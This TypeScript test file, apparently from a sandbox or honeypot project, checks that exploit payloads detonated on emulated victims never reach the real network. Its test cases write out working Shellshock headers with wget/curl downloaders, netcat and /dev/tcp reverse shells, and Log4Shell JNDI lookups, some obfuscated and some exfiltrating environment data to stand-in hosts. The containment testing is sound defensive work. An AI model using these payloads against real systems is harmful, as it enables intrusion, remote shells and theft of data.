/**
 * Nothing leaves containment: hostile payloads detonate on emulated dummies while every way out
 * of this process (TCP connects, UDP sends, name lookups, HTTP requests) is replaced by a spy that
 * records and throws. The payloads are the corpus's exploit captures, played through the product's
 * own analyze path, and built ones (Shellshock running downloaders, reverse shells, ping and tftp;
 * Log4Shell with LDAP, RMI, DNS and obfuscated lookups). What must hold:
 * - no real network call at all;
 * - every network-looking thing a dummy did (a connect or sendto in attacker code's trace, a JNDI
 *   lookup, an address a shell command named) has a containment egress event for it;
 * - those egress events name the destinations the payload chose (its address and port, or its
 *   host name in the DNS question and the Host header when it named a host).
 */
import assert from 'node:assert/strict';
import dgram from 'node:dgram';
import dns from 'node:dns';
import http from 'node:http';
import https from 'node:https';
import { syncBuiltinESMExports } from 'node:module';
import net, { isIPv4 } from 'node:net';
import { basename } from 'node:path';
import tls from 'node:tls';
import { after, before, describe, it } from 'node:test';
import type { Profile } from '../../src/config/index.ts';
import { detonateOnVictim, runAnalyzeJob, type Lease } from '../../src/daemon/index.ts';
import { EmulatedDriver } from '../../src/drivers/index.ts';
import type { EgressEvent } from '../../src/containment/index.ts';
import { defaultInterpreters, serviceResolver } from '../../src/emulator/index.ts';
import { defaultCatalogue, type Observation, type Victim } from '../../src/sandbox/index.ts';
import { ServiceIdentifier } from '../../src/triage/index.ts';
import { corpusSessions } from '../helpers/corpus-sessions.ts';
import { corpusCaptures, skipWithoutCorpus } from '../helpers/corpus.ts';

const catalogue = defaultCatalogue();
const peer = { address: '192.0.2.66', port: 51_000 };

// ---------------------------------------------------------------------------------------------
// The spies: every exit from the process records its call and throws.

const realCalls: string[] = [];
const restorers: Array<() => void> = [];

function spyOn(owner: object, key: string, label: string): void {
  const target = owner as Record<string, unknown>;
  const original = target[key];
  if (typeof original !== 'function') return;
  target[key] = function spy(...args: unknown[]): never {
    realCalls.push(`${label}(${args.slice(0, 2).map((argument) => (typeof argument === 'object' ? JSON.stringify(argument) : String(argument))).join(', ')})`);
    throw new Error(`containment test: real network call ${label}`);
  };
  restorers.push(() => {
    target[key] = original;
  });
}

function armSpies(): void {
  spyOn(net.Socket.prototype, 'connect', 'net.Socket.connect');
  spyOn(net, 'createConnection', 'net.createConnection');
  spyOn(net, 'connect', 'net.connect');
  spyOn(tls, 'connect', 'tls.connect');
  spyOn(dgram.Socket.prototype, 'send', 'dgram.Socket.send');
  spyOn(dgram.Socket.prototype, 'connect', 'dgram.Socket.connect');
  for (const key of Object.keys(dns)) if (/^(lookup|resolve)/.test(key)) spyOn(dns, key, `dns.${key}`);
  for (const key of Object.keys(dns.promises)) if (/^(lookup|resolve)/.test(key)) spyOn(dns.promises, key, `dns.promises.${key}`);
  spyOn(dns.Resolver.prototype, 'resolve', 'dns.Resolver.resolve');
  for (const module of [http, https] as const) {
    const name = module === http ? 'http' : 'https';
    spyOn(module, 'request', `${name}.request`);
    spyOn(module, 'get', `${name}.get`);
  }
  syncBuiltinESMExports(); // named imports of node:net, node:dns … see the spies too
}

function disarmSpies(): void {
  for (const restore of restorers.splice(0).reverse()) restore();
  syncBuiltinESMExports();
}

// ---------------------------------------------------------------------------------------------
// What counts as network-looking, and what answers it.

interface Leased {
  where: string;
  profile: Profile;
  observations: Observation[];
}

interface Destination {
  /** an address, or a host name the payload named */
  host: string;
  port: number | null;
  what: string;
}

const egressOf = (observations: readonly Observation[]): EgressEvent[] => observations.flatMap((seen) => (seen.source === 'containment' ? [seen.event] : []));

/** connects and sendtos of attacker code, JNDI lookups, and addresses in executed commands */
function networkLooking(observations: readonly Observation[]): Destination[] {
  const found: Destination[] = [];
  for (const seen of observations) {
    if (seen.source !== 'dummy') continue;
    const observation = seen.observation;
    if (observation.kind === 'code') {
      for (const event of observation.trace.events) {
        if (event.kind !== 'network' || !/^(connect|sendto) /.test(event.summary)) continue;
        const { address, port } = event.args;
        if (typeof address === 'string' && typeof port === 'number') found.push({ host: address, port, what: `${event.api}: ${event.summary}` });
      }
    } else if (observation.kind === 'lookup') {
      const jndi = /^jndi:(ldaps?|rmi|dns|iiop):\/\/\[?([^/:\]]+)\]?(?::(\d+))?/i.exec(observation.resolved);
      if (jndi) found.push({ host: jndi[2]!.toLowerCase(), port: jndi[3] ? Number(jndi[3]) : null, what: `lookup ${observation.resolved}` });
    } else if (observation.kind === 'exec') {
      for (const address of observation.command.match(/\b\d{1,3}(?:\.\d{1,3}){3}\b/g) ?? []) {
        if (isIPv4(address)) found.push({ host: address, port: null, what: `${observation.shell}: ${observation.command}` });
      }
    }
  }
  return found;
}

/** What the egress events reached, indexed: Slammer alone makes thousands of them. */
function reached(events: readonly EgressEvent[]): { addresses: Set<string>; endpoints: Set<string>; names: Set<string> } {
  const addresses = new Set<string>();
  const endpoints = new Set<string>();
  const names = new Set<string>();
  for (const event of events) {
    addresses.add(event.destination.address);
    endpoints.add(`${event.destination.address}:${event.destination.port}`);
    if (event.facts.kind === 'dns_query') names.add(event.facts.qname.toLowerCase());
  }
  return { addresses, endpoints, names };
}

/** An egress event for each destination: to that address (and port), or a DNS question for that name. */
function unanswered(leased: Leased): string[] {
  const { addresses, endpoints, names } = reached(egressOf(leased.observations));
  const answered = (destination: Destination): boolean => {
    if (!isIPv4(destination.host)) return names.has(destination.host);
    return destination.port === null ? addresses.has(destination.host) : endpoints.has(`${destination.host}:${destination.port}`);
  };
  return networkLooking(leased.observations)
    .filter((destination) => !answered(destination))
    .map((destination) => `${leased.where} on ${leased.profile.id}: ${destination.what} has no egress event`);
}

// ---------------------------------------------------------------------------------------------

function newDriver(instructionsPerRun?: number): EmulatedDriver {
  return new EmulatedDriver({ services: serviceResolver(), interpreters: defaultInterpreters(), ...(instructionsPerRun ? { instructionsPerRun } : {}) });
}

/** A lease that keeps what each dummy saw before it is thrown away. */
function recordingLease(driver: EmulatedDriver, where: string, into: Leased[]): Lease {
  return async (profile, use) => {
    const victim = await driver.create(profile);
    try {
      const result = await use(victim);
      into.push({ where, profile, observations: [...victim.observations()] });
      return result;
    } finally {
      await victim.close();
    }
  };
}

/** The worm background capture costs ~28 s through analyze (Slammer on three profiles); its Slammer session is detonated once below. */
const WORM_BACKGROUND = 'internet-host-2004-worm-background.pcap';

function exploitCaptures(): string[] {
  return corpusCaptures().filter((path) => !basename(path).startsWith('benign-') && basename(path) !== WORM_BACKGROUND);
}

async function request(victim: Victim, port: number, text: string): Promise<void> {
  const connection = await victim.connect(port, peer);
  assert.ok(connection, `tcp/${port} refused`);
  await connection.send(Buffer.from(text, 'latin1'));
  await connection.close();
}

function hasEvent(events: readonly EgressEvent[], test: (event: EgressEvent) => boolean): boolean {
  return events.some(test);
}

function describeEvents(events: readonly EgressEvent[]): string {
  return events.map((event) => `${event.facts.kind} ${event.destination.address}:${event.destination.port}`).join(', ');
}

describe('emulated dummies: nothing leaves containment', () => {
  before(() => {
    armSpies();
    // the spies are armed: each way out is caught and recorded, so "zero calls" below means something
    for (const attempt of [
      () => net.createConnection({ host: '192.0.2.1', port: 9 }),
      () => new net.Socket().connect(9, '192.0.2.1'),
      () => dgram.createSocket('udp4').send(Buffer.from('x'), 9, '192.0.2.1'),
      () => dns.lookup('example.com', () => undefined),
      () => dns.promises.lookup('example.com'),
      () => http.request('http://192.0.2.1/'),
    ]) {
      assert.throws(attempt, /real network call/);
    }
    assert.equal(realCalls.length, 6, realCalls.join('\n'));
    realCalls.length = 0;
  });

  after(() => {
    disarmSpies();
  });

  it('built Shellshock commands: wget, curl, nc -e, /dev/tcp, ping and tftp each reach only a sink, at the destination they chose', async () => {
    const profile = catalogue.get('linux-apache-bash-cgi');
    const driver = newDriver();
    const victim = await driver.create(profile);
    const cases: Array<{ command: string; expect: (events: EgressEvent[]) => boolean }> = [
      {
        command: 'wget http://198.51.100.7/a.sh -O /tmp/a.sh',
        expect: (events) => hasEvent(events, (event) => event.facts.kind === 'http_request' && event.destination.address === '198.51.100.7' && event.destination.port === 80 && event.facts.url === '/a.sh'),
      },
      {
        command: 'curl -s http://dl.example.net:8080/b -o /tmp/b',
        expect: (events) =>
          hasEvent(events, (event) => event.facts.kind === 'dns_query' && event.facts.qname === 'dl.example.net') &&
          hasEvent(events, (event) => event.facts.kind === 'http_request' && event.facts.host === 'dl.example.net:8080' && event.destination.port === 8080),
      },
      { command: 'nc 198.51.100.8 4444 -e /bin/sh', expect: (events) => hasEvent(events, (event) => event.facts.kind === 'tcp_connect' && event.destination.address === '198.51.100.8' && event.destination.port === 4444) },
      { command: 'bash -i >& /dev/tcp/198.51.100.9/5555 0>&1', expect: (events) => hasEvent(events, (event) => event.facts.kind === 'tcp_connect' && event.destination.address === '198.51.100.9' && event.destination.port === 5555) },
      { command: 'ping -c 3 198.51.100.10', expect: (events) => hasEvent(events, (event) => event.facts.kind === 'icmp_echo' && event.destination.address === '198.51.100.10') },
      {
        command: 'cd /tmp; tftp -g -r x.bin 198.51.100.11',
        expect: (events) => hasEvent(events, (event) => event.facts.kind === 'tftp_request' && event.facts.fileName === 'x.bin' && event.destination.address === '198.51.100.11' && event.destination.port === 69),
      },
      {
        command: 'cd /tmp; tftp 198.51.100.12 -c get y.bin',
        expect: (events) => hasEvent(events, (event) => event.facts.kind === 'tftp_request' && event.facts.fileName === 'y.bin' && event.destination.address === '198.51.100.12' && event.destination.port === 69),
      },
    ];
    try {
      for (const { command, expect } of cases) {
        await request(victim, 80, `GET /cgi-bin/status HTTP/1.1\r\nHost: victim\r\nUser-Agent: () { :; }; /bin/bash -c '${command}'\r\nConnection: close\r\n\r\n`);
        const observations = [...victim.observations()];
        const events = egressOf(observations);
        assert.ok(observations.some((seen) => seen.source === 'dummy' && seen.observation.kind === 'exec'), `${command}: the shell did not run it`);
        assert.ok(expect(events), `${command}: egress was ${describeEvents(events)}`);
        assert.deepEqual(unanswered({ where: command, profile, observations }), []);
        await victim.revert();
      }
    } finally {
      await driver.close();
    }
    assert.deepEqual(realCalls, []);
  });

  it('built Log4Shell lookups: LDAP, LDAPS, RMI, DNS and obfuscated ones reach only a sink, at the destination they chose', async () => {
    const profile = catalogue.get('linux-tomcat-log4j-2.14');
    const driver = newDriver();
    const victim = await driver.create(profile);
    const cases: Array<{ lookup: string; expect: (events: EgressEvent[]) => boolean }> = [
      {
        lookup: '${jndi:ldap://198.51.100.20:1389/a}',
        expect: (events) => hasEvent(events, (event) => event.facts.kind === 'ldap_search' && event.destination.address === '198.51.100.20' && event.destination.port === 1389),
      },
      {
        lookup: '${jndi:ldaps://198.51.100.23:636/e}',
        expect: (events) => hasEvent(events, (event) => event.facts.kind === 'tcp_connect' && event.destination.address === '198.51.100.23' && event.destination.port === 636),
      },
      {
        lookup: '${jndi:rmi://198.51.100.21:1099/b}',
        expect: (events) => hasEvent(events, (event) => event.facts.kind === 'rmi_handshake' && event.destination.address === '198.51.100.21' && event.destination.port === 1099),
      },
      {
        lookup: '${jndi:dns://198.51.100.22/c}',
        expect: (events) => hasEvent(events, (event) => event.facts.kind === 'dns_query' && event.destination.address === '198.51.100.22' && event.destination.port === 53),
      },
      {
        lookup: '${${lower:j}ndi:${lower:l}dap://evil.example.org/d}',
        expect: (events) => hasEvent(events, (event) => event.facts.kind === 'dns_query' && event.facts.qname === 'evil.example.org') && hasEvent(events, (event) => event.facts.kind === 'ldap_search' && event.destination.port === 389),
      },
      {
        lookup: '${jndi:ldap://${env:USER}.exfil.example.com/x}',
        expect: (events) => hasEvent(events, (event) => event.facts.kind === 'dns_query' && event.facts.qname === 'tomcat.exfil.example.com'),
      },
    ];
    try {
      for (const { lookup, expect } of cases) {
        await request(victim, 8080, `GET /app HTTP/1.1\r\nHost: victim\r\nUser-Agent: ${lookup}\r\nX-Api-Version: ${lookup}\r\n\r\n`);
        const observations = [...victim.observations()];
        const events = egressOf(observations);
        assert.ok(observations.some((seen) => seen.source === 'dummy' && seen.observation.kind === 'lookup'), `${lookup}: Log4j did not evaluate it`);
        assert.ok(expect(events), `${lookup}: egress was ${describeEvents(events)}`);
        assert.deepEqual(unanswered({ where: lookup, profile, observations }), []);
        await victim.revert();
      }
    } finally {
      await driver.close();
    }
    assert.deepEqual(realCalls, []);
  });

  it('corpus exploit captures through analyze: every network call of every dummy lands in a sink', { skip: skipWithoutCorpus() }, async () => {
    const leased: Leased[] = [];
    const driver = newDriver();
    try {
      for (const capture of exploitCaptures()) {
        await runAnalyzeJob([capture], { catalogue, lease: recordingLease(driver, basename(capture), leased) });
      }
    } finally {
      await driver.close();
    }
    assert.deepEqual(realCalls, []);
    assert.deepEqual(leased.flatMap(unanswered), []);
    // not vacuous: the payloads the corpus is known for did call out, and were caught
    const egress = leased.flatMap((lease) => egressOf(lease.observations).map((event) => ({ where: lease.where, event })));
    const caught = (capture: string, address: string, port: number): boolean =>
      egress.some(({ where, event }) => where === capture && event.destination.address === address && event.destination.port === port);
    assert.ok(caught('ms09-050-smb2-negotiate-meterpreter.pcap', '192.168.3.205', 4444), 'the MS09-050 payload connects back to 192.168.3.205:4444');
    assert.ok(caught('cve-2021-44228-log4shell-login-revshell.pcap', '172.16.238.11', 1389), 'the Log4Shell lookup goes to 172.16.238.11:1389');
    assert.ok(egress.some(({ event }) => event.facts.kind === 'dns_query' && event.facts.qname === 'ldaps.suspect.network'), 'the LDAPS lookup asks for ldaps.suspect.network');
    assert.ok(leased.flatMap((lease) => networkLooking(lease.observations)).length > 0);
  });

  it("Slammer from the worm background capture: each of the worm's datagrams lands in the UDP sink", { skip: skipWithoutCorpus() }, async () => {
    const identifier = new ServiceIdentifier(catalogue);
    const sessions = await corpusSessions(WORM_BACKGROUND);
    const slammer = sessions.find((session) => session.proto === 'udp' && session.server.port === 1434);
    assert.ok(slammer, 'no UDP/1434 session in the capture');
    const serviceKind = identifier.identify(slammer)?.kind;
    assert.equal(serviceKind, 'ms-sql-m');
    const profile = catalogue.get('win-2000-sp4-sql2000-sp2');
    // a twentieth of the default CPU budget: Slammer's loop still sends thousands of datagrams
    const driver = newDriver(100_000);
    const leased: Leased[] = [];
    try {
      await recordingLease(driver, WORM_BACKGROUND, leased)(profile, (victim) => detonateOnVictim(victim, profile, [{ session: slammer, serviceKind }], { dwellMs: 1_000 }));
    } finally {
      await driver.close();
    }
    assert.deepEqual(realCalls, []);
    const [lease] = leased;
    assert.ok(lease);
    const sends = networkLooking(lease.observations).filter((destination) => destination.port === 1434);
    assert.ok(sends.length > 100, `Slammer sent ${sends.length} datagrams`);
    assert.deepEqual(unanswered(lease), []);
    const datagrams = egressOf(lease.observations).filter((event) => event.facts.kind === 'udp_datagram' && event.destination.port === 1434);
    assert.ok(datagrams.length >= sends.length);
    assert.ok(datagrams.every((event) => event.facts.kind === 'udp_datagram' && event.facts.bytes === 376), 'every datagram is the 376-byte worm');
  });

  it('no real network call was made by any of it', () => {
    assert.deepEqual(realCalls, []);
  });
});
